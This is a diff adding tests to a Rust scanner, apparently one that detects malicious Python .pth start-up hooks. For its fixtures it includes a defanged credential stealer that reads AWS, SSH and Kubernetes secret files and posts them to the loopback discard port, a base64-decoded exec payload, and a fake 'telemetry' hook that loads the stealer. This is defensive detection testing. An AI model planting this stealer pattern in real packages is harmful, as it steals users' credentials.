@@ -28,8 +28,41 @@ fn options(path: &Path, deep: bool) -> ScanOptions {
     }
 }
 
+/// A hook's module carrying the stealer shape (defanged: it acts only on a variable never set,
+/// and then only towards the loopback discard port).
+const STEALER: &str = r#"# defanged stealer shape
+import json, os, urllib.request
+
+_TARGETS = ["~/.aws/credentials", "~/.ssh/id_rsa", "~/.kube/config"]
+
+
+def run():
+    if os.environ.get("PTHSCAN_CORPUS_NEVER_SET") != "armed":
+        return
+    loot = {}
+    for p in _TARGETS:
+        try:
+            loot[p] = open(os.path.expanduser(p), "rb").read().decode("latin-1")
+        except OSError:
+            pass
+    urllib.request.urlopen("http://127.0.0.1:9/", data=json.dumps(loot).encode(), timeout=1)
+"#;
+
 /// Decoded code run at import (it prints a word): what only `--deep` judges.
 const DECODED_EXEC: &str = "import base64\nexec(base64.b64decode('cHJpbnQoImRlZmFuZ2VkIik='))\n";
+
+/// One package, as wheel members: a hook, the module it imports, a module nothing imports at
+/// start-up and a script, each of the last two running decoded code.
+const PACKAGE: &[(&str, &str)] = &[
+    (
+        "telemetry.pth",
+        "# start-up telemetry\nimport _telemetry_boot\n",
+    ),
+    ("_telemetry_boot.py", STEALER),
+    ("pkg/__init__.py", ""),
+    ("pkg/updater.py", DECODED_EXEC),
+    ("pkg-1.0.data/scripts/pkg-update", DECODED_EXEC),
+];
 
 fn record_row(path: &str, data: &[u8]) -> String {
     let digest =
@@ -46,7 +79,12 @@ fn installed_path(member: &str) -> String {
     }
 }
 
-/// `members` plus metadata as a wheel, RECORD listing the member named in `listed_as` with that content instead,
+/// `members` plus metadata, as a wheel whose RECORD lists them all.
+fn wheel_of(members: &[(&str, &str)]) -> Vec<u8> {
+    wheel_listing(members, &[], false)
+}
+
+/// As [`wheel_of`], RECORD listing the member named in `listed_as` with that content instead,
 /// each member stored rather than deflated when `stored`.
 fn wheel_listing(members: &[(&str, &str)], listed_as: &[(&str, &str)], stored: bool) -> Vec<u8> {
     let mut all: Vec<(String, Vec<u8>)> = members
@@ -110,6 +148,10 @@ fn install(dir: &Path, members: &[(&str, &[u8])], rows: &str) {
     put(&format!("{SP}/pkg-1.0.dist-info/RECORD"), record.as_bytes());
 }
 
+fn as_bytes<'a>(members: &[(&'a str, &'a str)]) -> Vec<(&'a str, &'a [u8])> {
+    members.iter().map(|(n, t)| (*n, t.as_bytes())).collect()
+}
+
 /// Each finding as (rule, severity, where it is once installed, line): a wheel's member placed
 /// where an installer puts it, an installed file relative to the site directory.
 fn judged(report: &ScanReport, base: &Path) -> Vec<(String, String, String, Option<usize>)> {
@@ -160,6 +202,40 @@ fn rules_at(found: &[(String, String, String, Option<usize>)], place: &str) -> V
         .filter(|f| f.2 == place)
         .map(|f| f.0.clone())
         .collect()
+}
+
+/// The same package gets the same judgement installed and as a wheel: its hook and what the
+/// hook imports by default, every file (its script too) with `--deep`.
+#[test]
+fn a_package_is_judged_alike_installed_and_as_a_wheel() {
+    let dir = tempfile::tempdir().unwrap();
+    let base = dir.path().canonicalize().unwrap();
+    install(&base, &as_bytes(PACKAGE), "");
+    std::fs::create_dir(base.join("dist")).unwrap();
+    std::fs::write(
+        base.join("dist/pkg-1.0-py3-none-any.whl"),
+        wheel_of(PACKAGE),
+    )
+    .unwrap();
+    for deep in [false, true] {
+        let installed = judged(&scan(&options(&base.join("venv"), deep), sigs()), &base);
+        let wheel = judged(&scan(&options(&base.join("dist"), deep), sigs()), &base);
+        assert_eq!(installed, wheel, "deep: {deep}");
+        // the hook and the module it imports, always
+        assert!(rules_at(&installed, "telemetry.pth").contains(&"PTH001".to_owned()));
+        assert!(
+            rules_at(&installed, "_telemetry_boot.py").contains(&"cred-sweep-stores".to_owned()),
+            "{installed:#?}"
+        );
+        // the rest only with --deep: a module nothing imports at start-up, a script in bin/
+        for place in ["pkg/updater.py", "../../../bin/pkg-update"] {
+            assert_eq!(
+                rules_at(&installed, place).contains(&"obf-exec-decoded".to_owned()),
+                deep,
+                "{place} (deep: {deep}): {installed:#?}"
+            );
+        }
+    }
 }
 
 /// RECORD hashes cover whole files whatever `--max-file-size` says, and every hash name RECORD
